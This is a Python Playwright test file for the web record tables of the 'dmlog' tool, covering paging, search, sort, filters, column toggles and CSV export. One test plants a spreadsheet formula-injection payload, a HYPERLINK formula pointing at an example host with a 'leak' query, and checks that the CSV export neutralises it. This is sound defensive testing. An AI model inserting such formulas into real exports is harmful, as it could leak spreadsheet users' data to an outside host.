"""Record tables drawn from JSON data (dmlog-table.js): a page of rows first, then
search, sort, filters, column toggles, page sizes and CSV; without JavaScript and in
print every row is there."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from typing import Any

import pytest

from helpers import LONG_LOG_DECISIONS, Build, serve

MANY = len(LONG_LOG_DECISIONS)  # decisions besides the mini site's one: more than a page of 50
TOTAL = MANY + 1


@pytest.fixture(scope="module")
def site(long_log_build: Build) -> Iterator[str]:
    with serve(long_log_build.outdir) as url:
        yield url


def shown(page: Any) -> list[str]:
    return page.locator(".dmlog-dt-table tbody tr").evaluate_all("rows => rows.map(r => r.dataset.needId)")


def column(page: Any, key: str) -> list[str]:
    index = page.locator(".dmlog-dt-table thead th").evaluate_all(
        f"cells => cells.findIndex(c => c.dataset.col === '{key}')")
    return page.locator(f".dmlog-dt-table tbody tr td:nth-child({index + 1})").all_inner_texts()


def test_a_page_of_rows_first_then_other_pages_and_all_rows(site: str, page: Any) -> None:
    page.goto(site + "docs/decisions.html")
    assert len(shown(page)) == 50
    assert page.locator(".dmlog-dt-status").inner_text() == f"Rows 1–50 of {TOTAL}"
    page.get_by_role("button", name="Next").click()
    assert len(shown(page)) == 50
    assert page.locator(".dmlog-dt-status").inner_text() == f"Rows 51–100 of {TOTAL}"
    page.select_option(".dmlog-dt-size", "0")  # all rows
    assert len(shown(page)) == TOTAL


def test_search_sort_and_filters(site: str, page: Any) -> None:
    page.goto(site + "docs/decisions.html")
    page.fill(".dmlog-dt-search", "number 1")
    titles = column(page, "title")
    assert titles and all("number 1" in t for t in titles)
    page.fill(".dmlog-dt-search", "")
    page.locator("th[data-col=title] button").click()
    assert page.locator("th[data-col=title]").get_attribute("aria-sort") == "ascending"
    titles = column(page, "title")
    # numbers in text sort as numbers
    assert titles[:3] == ["Adopt the new plan", "Decision number 2", "Decision number 3"]
    page.locator("th[data-col=title] button").click()
    assert page.locator("th[data-col=title]").get_attribute("aria-sort") == "descending"
    assert column(page, "title")[:2] == [f"Decision number {MANY + 1}", f"Decision number {MANY}"]
    page.select_option(".dmlog-dt-filter[data-column=owner]", "bob")
    assert set(column(page, "owner")) == {"Bob Builder"}
    assert page.locator(".dmlog-dt-status").inner_text().endswith(f"(filtered from {TOTAL})")
    page.select_option(".dmlog-dt-filter[data-column=status]", "adopted")
    assert set(column(page, "status")) == {"adopted"}
    assert all(int(row.rsplit("-", 1)[1]) % 2 and int(row.rsplit("-", 1)[1]) % 3 == 0 for row in shown(page))


def test_columns_can_be_hidden(site: str, page: Any) -> None:
    page.goto(site + "docs/decisions.html")
    assert page.locator("th[data-col=tags]").count() == 1
    page.locator(".dmlog-dt-columns summary").click()
    page.get_by_label("Tags").uncheck()
    assert page.locator("th[data-col=tags]").count() == 0
    assert page.locator(".dmlog-dt-table tbody tr").first.locator("td").count() == 6


def test_csv_is_named_after_the_table_with_urls_and_owner_ids(site: str, page: Any) -> None:
    page.goto(site + "docs/decisions.html")
    page.select_option(".dmlog-dt-filter[data-column=owner]", "ann")
    with page.expect_download() as download:
        page.get_by_role("button", name="Download CSV").click()
    assert download.value.suggested_filename == "decisions.csv"
    with open(download.value.path(), encoding="utf-8-sig") as file:
        text = file.read()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 1 + MANY // 2  # DEC-2020-001 and the even ones
    first = next(row for row in rows if row["ID"] == "DEC-2020-001")
    assert first["Owner"] == "Ann Author" and first["Owner IDs"] == "ann"
    assert first["URL"] == site + "decisions/2020/2020-05-01-review.html#DEC-2020-001"
    assert first["Meeting"] == "Review meeting"


def test_csv_shows_a_cell_a_spreadsheet_would_run_as_text(site: str, page: Any) -> None:
    """The characters that start a formula come with the table's data, from the
    function `dmlog list` and `dmlog review` write their CSV with (log/spreadsheet.py)."""
    from dmlog.log import spreadsheet

    page.goto(site + "docs/decisions.html")
    formula = '=HYPERLINK("http://example.org/?leak","Click")'
    starts = page.evaluate("""formula => {
        const table = document.querySelector(".dmlog-datatable").dmlogTable;
        const title = table.columns.findIndex(c => c.key === "title");
        table.texts[table.order[0]][title] = formula;  // as a record's title would be
        return table.data.formulaStarts;
    }""", formula)
    assert starts == spreadsheet.FORMULA_STARTS
    with page.expect_download() as download:
        page.get_by_role("button", name="Download CSV").click()
    with open(download.value.path(), encoding="utf-8-sig") as file:
        rows = list(csv.DictReader(file))
    assert rows[0]["Title"] == "'" + formula
    assert not [row for row in rows[1:] if row["Title"].startswith("'")]


def test_without_javascript_every_row_is_there(browser: Any, site: str) -> None:
    context = browser.new_context(java_script_enabled=False)
    page = context.new_page()
    page.goto(site + "docs/decisions.html")
    rows = page.locator("table.dmlog-table tbody tr")
    assert rows.count() == TOTAL
    assert rows.first.is_visible()
    context.close()


def test_print_shows_every_row(site: str, page: Any) -> None:
    page.goto(site + "docs/decisions.html")
    assert len(shown(page)) == 50
    page.emulate_media(media="print")
    page.wait_for_function(f"document.querySelectorAll('.dmlog-dt-table tbody tr').length === {TOTAL}")
    assert not page.locator(".dmlog-dt-tools").is_visible()
    page.emulate_media(media="screen")
    page.wait_for_function("document.querySelectorAll('.dmlog-dt-table tbody tr').length === 50")


def test_the_people_index_heads_names_name(site: str, page: Any) -> None:
    page.goto(site + "docs/people/index.html")
    assert page.locator("th[data-col=title]").inner_text().startswith("Name")
    assert column(page, "title") == ["Ann Author", "Bob Builder", "The Team"]


def test_action_tracker_jumps_to_an_owner_filters_overdue_and_downloads(site: str, page: Any) -> None:
    page.goto(site + "docs/actions.html")
    index = page.locator("nav.dmlog-owner-index a").all_inner_texts()
    assert index == ["Ann Author", "Bob Builder", "The Team"]  # by surname; the group by name
    assert shown(page) == ["ACT-2020-001", "ACT-2020-002"]  # overdue first
    page.locator("nav.dmlog-owner-index a", has_text="The Team").click()
    page.wait_for_function("document.querySelectorAll('.dmlog-dt-table tbody tr').length === 1")
    assert shown(page) == ["ACT-2020-002"]
    # the filter's choices come once the first screen is up: every owner, by surname
    owners = page.locator(".dmlog-dt-filter[data-column=owner] option")
    page.wait_for_function("document.querySelector('.dmlog-dt-filter[data-column=owner]').options.length > 1")
    assert owners.all_inner_texts() == ["Any owner", "Ann Author", "Bob Builder", "The Team"]
    page.select_option(".dmlog-dt-filter[data-column=owner]", "")
    page.get_by_label("Overdue only").check()
    assert shown(page) == ["ACT-2020-001"]
    with page.expect_download() as download:
        page.get_by_role("button", name="Download CSV").click()
    assert download.value.suggested_filename == "open-actions.csv"


def test_action_tracker_without_javascript_groups_by_owner(browser: Any, site: str) -> None:
    context = browser.new_context(java_script_enabled=False)
    page = context.new_page()
    page.goto(site + "docs/actions.html")
    page.locator("nav.dmlog-owner-index a", has_text="The Team").click()
    assert page.url.endswith("#owner-team")
    assert page.locator("#owner-team").is_visible()
    assert page.locator("p.dmlog-group-head").count() == 3 + 1  # owners, and the finished ones
    context.close()
